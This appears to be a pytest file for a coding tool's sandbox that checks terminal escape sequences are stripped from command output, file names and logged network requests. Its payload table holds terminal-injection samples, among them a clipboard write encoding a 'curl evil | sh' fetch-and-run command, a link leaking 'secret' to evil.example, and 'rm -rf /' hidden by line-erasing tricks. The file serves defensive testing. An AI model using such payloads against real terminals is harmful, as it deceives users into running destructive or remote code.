"""What a command prints, or names its files, is shown on a terminal: nothing in it may command that terminal."""

from __future__ import annotations

import asyncio
import unicodedata
from pathlib import Path

import pytest

from mainspring.tool import ToolContext
from mainspring.tools import coding_tools
from mainspring.tools.sandbox import Sandbox

ATTACKS = {
    "title": b"\x1b]0;sudo password:\x07",
    "clipboard": b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\",
    "link": b"\x1b]8;;http://evil.example/?q=secret\x1b\\here\x1b]8;;\x1b\\",
    "answer typed back": b"\x1b[c\x1b[6n\x1bP$qm\x1b\\\x1b[21t",
    "erased lines": b"rm -rf /\x1b[1A\x1b[2Kls\n",
    "overwritten line": b"rm -rf /\rls      \n",
    "8-bit sequences": b"\xc2\x9b31m\xc2\x9d0;x\xc2\x9c",
    "raw bytes of 8-bit": b"\x9b31m\x9d0;x\x9c",
    "sequence without end": b"\x1b]0;never ends",
    "hidden order": "pay \u202e005\u202c \u2066x\u2069".encode(),
    "bells and backspaces": b"\x07\x08\x08\x08\x7f\x0e\x0f",
    "screen of its own": b"\x1b[?1049h\x1b[?25l\x1bc",
    "a sequence in pieces": b"\x1b\x1b]0;a\x07]0;b\x07",
}


def harmless(text: str) -> bool:
    """No control but newline and tab, and nothing that reorders what is shown."""
    reordering = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    return not any((unicodedata.category(c) == "Cc" and c not in "\n\t") or c in reordering for c in text)


@pytest.mark.parametrize("name", ATTACKS)
def test_output_progress_and_answer_command_no_terminal(workspace: Path, home: Path, name: str) -> None:
    assert not harmless(ATTACKS[name].decode("utf-8", "surrogateescape")) or name == "raw bytes of 8-bit"
    (workspace / "payload").write_bytes(ATTACKS[name])
    seen: list[str] = []
    result = Sandbox(workspace, home=home).run(["bash", "-c", "cat payload payload >&2; sleep 0.1"], report=seen.append)
    assert harmless(result.output), ascii(result.output)
    assert all(map(harmless, seen)), seen

    tool = {tool.name: tool for tool in coding_tools()}["run_terminal_command"]
    context = ToolContext("r", "k", workspace, home)
    assert harmless(asyncio.run(tool.call({"command": "cat payload"}, context)))


def test_names_of_files_command_no_terminal(workspace: Path) -> None:
    name = r"$(printf 'x\033]0;title\007\n\342\200\256y')"
    make = f'd={name}; mkdir "$d"; echo x > "$d/AGENTS.md"; git init -q "$d"'
    result = Sandbox(workspace).run(["bash", "-c", make])
    assert len(result.notes) == 2
    for note in result.notes:
        assert harmless(note), ascii(note)
        assert "\n" not in note


def test_hosts_that_were_asked_for_command_no_terminal(workspace: Path) -> None:
    program = """
import socket
for asked in (b'GET http://evil\\x1b]0;x\\x07.test/', b'CONNECT \\x9b31m:443', b'GET http://a%1b.test/'):
    s = socket.create_connection(('127.0.0.1', 3128))
    s.sendall(asked + b' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
    print(s.recv(9999))
"""
    seen: list[str] = []
    box = Sandbox(workspace, hosts=["good.test"])
    result = box.run([str(box.python), "-c", program], report=seen.append)
    assert result.output.count("HTTP/1.1 40") == 3
    assert len(result.network) == 3
    for line in (*result.notes, *seen):
        assert harmless(line), ascii(line)
        assert "\n" not in line
